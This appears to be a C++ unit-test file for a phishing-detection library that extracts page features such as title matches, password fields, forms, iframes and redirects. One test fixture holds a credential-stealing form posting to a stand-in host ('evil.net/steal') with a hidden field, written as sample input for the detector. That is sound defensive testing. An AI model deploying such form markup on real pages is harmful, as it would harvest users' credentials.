#include "doctest.h"

#include <string>

#include "phishrl/content_features.hpp"

using namespace phishrl;

namespace {

HtmlDocument doc(std::string url, std::string body) {
    HtmlDocument d;
    d.url = std::move(url);
    d.body = std::move(body);
    d.redirect_chain = {d.url};
    return d;
}

}  // namespace

TEST_CASE("word_tokens lowercases alphanumeric runs") {
    CHECK(word_tokens("Secure-Login 2FA!") == std::vector<std::string>{"secure", "login", "2fa"});
    CHECK(word_tokens("").empty());
}

TEST_CASE("title_jaccard") {
    CHECK(title_jaccard("Secure Login", "secure login") == doctest::Approx(1.0));
    CHECK(title_jaccard("bank portal", "crypto exchange") == 0.0);
    CHECK(title_jaccard("secure login", "login portal") == doctest::Approx(1.0 / 3.0));
    CHECK(title_jaccard("", "") == 0.0);
}

TEST_CASE("title matching the domain") {
    const auto f = extract_content_features(doc("http://example.com/", "<html><title>Example</title></html>"));
    CHECK(f.HasTitle == 1);
    CHECK(f.DomainTitleMatchScore == doctest::Approx(1.0));
}

TEST_CASE("empty body gives null-filled defaults") {
    const auto f = extract_content_features(doc("http://example.com/", ""));
    for (const double v : f.to_array()) CHECK(v == 0.0);
}

TEST_CASE("password field and finance keywords") {
    const auto f = extract_content_features(
        doc("http://example.com/", "<form><input type='password'></form><p>Your bank account</p>"));
    CHECK(f.HasPasswordField == 1);
    CHECK(f.Bank == 1);
    CHECK(f.Pay == 0);
    CHECK(f.Crypto == 0);
}

TEST_CASE("line counts follow the newline rule") {
    const auto f = extract_content_features(doc("http://example.com/", "ab\nabcd\n\nx"));
    CHECK(f.LineOfCode == 4);
    CHECK(f.LargestLineLength == 4);
}

TEST_CASE("adding an image changes only NoOfImage") {
    const std::string base =
        "<html><head><title>Shop</title><link rel='stylesheet' href='a.css'></head>"
        "<body><a href='/x'>x</a><script src='s.js'></script>";
    const auto a = extract_content_features(doc("http://shop.com/", base + "</body></html>"));
    const auto b = extract_content_features(doc("http://shop.com/", base + "<img src='i.png'></body></html>"));
    const auto fa = a.to_array();
    const auto fb = b.to_array();
    for (std::size_t i = 0; i < kContentFeatureCount; ++i) {
        CAPTURE(kContentFeatureNames[i]);
        if (std::string(kContentFeatureNames[i]) == "NoOfImage") {
            CHECK(fb[i] == fa[i] + 1);
        } else if (std::string(kContentFeatureNames[i]) != "LargestLineLength") {
            CHECK(fb[i] == fa[i]);
        }
    }
    CHECK(a.NoOfCSS == 1);
    CHECK(a.NoOfJS == 1);
}

TEST_CASE("match scores equal title_jaccard on the token sets") {
    const auto f = extract_content_features(
        doc("http://secure-bank.example.com/login", "<title>Secure Bank Login</title>"));
    CHECK(f.URLTitleMatchScore ==
          doctest::Approx(title_jaccard("http://secure-bank.example.com/login", "Secure Bank Login")));
    CHECK(f.DomainTitleMatchScore == doctest::Approx(title_jaccard("example", "Secure Bank Login")));
}

TEST_CASE("form, iframe and hidden field detection") {
    const auto f = extract_content_features(
        doc("http://example.com/",
            "<form action='http://evil.net/steal'><input type=hidden name=t><input type=submit></form>"
            "<iframe src='x'></iframe><script>window.open('x')</script>"));
    CHECK(f.HasExternalFormSubmit == 1);
    CHECK(f.HasHiddenFields == 1);
    CHECK(f.HasSubmitButton == 1);
    CHECK(f.NoOfIFrame == 1);
    CHECK(f.NoOfPopup == 1);
}

TEST_CASE("redirect chain feeds redirect counters") {
    HtmlDocument d = doc("http://a.com/", "<p>x</p>");
    d.redirect_chain = {"http://a.com/", "http://a.com/next", "http://b.com/"};
    const auto f = extract_content_features(d);
    CHECK(f.NoOfURLRedirect == 2);
    CHECK(f.NoOfSelfRedirect == 1);
}

TEST_CASE("scanner tolerates malformed markup") {
    CHECK_NOTHROW(scan_html("<a href='x><<div <title>t"));
    const auto s = scan_html("<TITLE>Hi</TITLE><p>text</p><script>var a;</script>");
    CHECK(s.has_title_element);
    CHECK(s.title == "Hi");
    CHECK(s.script_text.find("var a") != std::string::npos);
}
